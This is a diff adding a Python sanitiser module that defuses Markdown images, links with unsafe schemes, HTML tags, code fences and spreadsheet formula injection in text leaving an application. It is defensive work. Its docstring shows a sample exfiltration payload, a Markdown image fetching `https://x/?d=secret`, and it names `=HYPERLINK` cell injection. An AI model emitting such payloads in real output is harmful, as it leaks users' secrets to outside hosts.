@@ -1,0 +1,125 @@
+"""Text from a model, a file or a person that cannot act where it is shown, on a page or in a file
+that leaves Leaf. Pure.
+
+Markdown can act without a click (a picture is fetched: `![](https://x/?d=secret)`) or on one (a
+`data:` or `file:` link), and a cell of a spreadsheet when it is opened (`=HYPERLINK(…)`). A rule
+that has to agree with a reader's parser about what is code would be fooled some day, so these rules
+hold everywhere: they break the few character pairs without which no picture, no forbidden link and
+no tag can begin.
+"""
+
+from __future__ import annotations
+
+import html
+import re
+from collections.abc import Iterator
+
+JOINER = "\u2060"
+"""Word joiner: invisible, without width; between two characters it keeps them from being Markdown
+together."""
+
+ALLOWED_SCHEMES = frozenset({"http", "https", "mailto"})
+
+
+FORMULA = "^[=+@\\-\\t\\r\\n\uff1d\uff0b\uff0d\uff20]"
+"""How a text begins that spreadsheets take for a formula (OWASP, CSV injection), as a regular
+expression that DuckDB reads too."""
+NUMBER = r"^[+-]?[0-9][0-9.,  ]*([eE][+-]?[0-9]+)?[ ]?%?$"
+"""One that is a number all the same."""
+
+_IMAGE = re.compile(r"!(?=\[)")
+_EMPTY_LABEL = re.compile(r"!\[\](?=[(\[])")
+_DESTINATION = re.compile(r"\](\(|:)|<(?=[A-Za-z&\\])")
+_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
+_IGNORED = re.compile(r"[\x00-\x20\x7f-\xa0\u2028\u2029<>]+")
+_ESCAPED = re.compile(r"\\(?=[!-/:-@\[-`{-~])")
+_PICTURE = re.compile(r"\[[^\]]{0,1000}\][(\[]")
+"""What follows the mark of a picture. One with a longer description is parted like what is none."""
+_HARMLESS = re.compile(r"[^:&#]*")
+"""Has no scheme and no place on this page, however it is written."""
+_TAG = re.compile(r"<(?=[A-Za-z/!?])(?!(?:https?://|mailto:)[^\s<>]*>)")
+_FENCE = re.compile(r"[ \t]*(`{3,}|~{3,})[ \t]*([\w+#.-]*)[^`]*$")
+_OTHER_FENCE = re.compile(r"^[ \t>*+\-\d.)]*(?:``(?=`)|~~(?=~))", re.MULTILINE)
+"""One that is not taken for a fence here, such as in a quote, and must be none for the reader."""
+_FORMULA, _NUMBER = re.compile(FORMULA), re.compile(NUMBER)
+
+
+def parted(text: str) -> str:
+    """Markdown in which pictures are links and links lead only to the web or to mail."""
+    text = _EMPTY_LABEL.sub("![picture]", text)
+    text = _IMAGE.sub(_break_image, text)
+    return _DESTINATION.sub(_break_link, text)
+
+
+def harmless_markdown(document: str) -> str:
+    """Markdown for any reader outside of Leaf: `parted`, and without HTML. Code in fences stays as
+    it is, in a fence that nothing in it can close."""
+    return "".join(_pieces(document))
+
+
+def inert(cell: str) -> str:
+    """Text of a cell that a spreadsheet does not take for a formula; a number stays one."""
+    return f"'{cell}" if _FORMULA.match(cell) and not _NUMBER.match(cell) else cell
+
+
+def allowed_address(address: str) -> bool:
+    """Whether a link may lead there: the web, mail, or a place below this page's address."""
+    scheme = _SCHEME.match(_plain_address(address))
+    return scheme is None or scheme.group(1) in ALLOWED_SCHEMES
+
+
+def _pieces(document: str) -> Iterator[str]:
+    text, code, fence, language = list[str](), list[str](), "", ""
+    for line in document.splitlines(keepends=True):
+        bare = line.strip()
+        opening = None if fence else _FENCE.match(line.rstrip("\r\n"))
+        if opening is not None:
+            fence, language = opening[1], opening[2]
+            yield _plain("".join(text))
+            text = []
+        elif fence and bare.startswith(fence) and not bare.strip(fence[0]):
+            yield _fenced(code, language)
+            code, fence = [], ""
+        else:
+            (code if fence else text).append(line)
+    yield _fenced(code, language) if fence else _plain("".join(text))
+
+
+def _plain(text: str) -> str:
+    text = _TAG.sub("<" + JOINER, parted(text))
+    return _OTHER_FENCE.sub(lambda found: found.group() + JOINER, text)
+
+
+def _fenced(code: list[str], language: str) -> str:
+    inside = "".join(code).rstrip("\n")
+    longest = max((len(run) for run in re.findall(r"`+", inside)), default=0)
+    fence = "`" * max(3, longest + 1)
+    return f"{fence}{language}\n{inside}\n{fence}\n"
+
+
+def _break_image(found: re.Match[str]) -> str:
+    """`![a](u)` and `![a][r]` lose the mark and stay links; any other `![` keeps it but is
+    parted."""
+    return JOINER if _PICTURE.match(found.string, found.end()) else "!" + JOINER
+
+
+def _break_link(found: re.Match[str]) -> str:
+    """Part the opening of a link whose address has a scheme that is not allowed, so that it is
+    drawn as text."""
+    address = found.string[found.end() : found.end() + 300]
+    if _HARMLESS.fullmatch(address):
+        return found.group()
+    if _plain_address(address).startswith("#") and found.group() != "<":
+        return (
+            "]" + JOINER + found.group(1)
+        )  # a link within the page leads nowhere, or poses as a mark
+    if allowed_address(address):
+        return found.group()
+    if found.group() == "<":
+        return "<" + JOINER
+    return "]" + JOINER + found.group(1)
+
+
+def _plain_address(address: str) -> str:
+    """As a browser reads it."""
+    return _IGNORED.sub("", html.unescape(_ESCAPED.sub("", address))).lower()
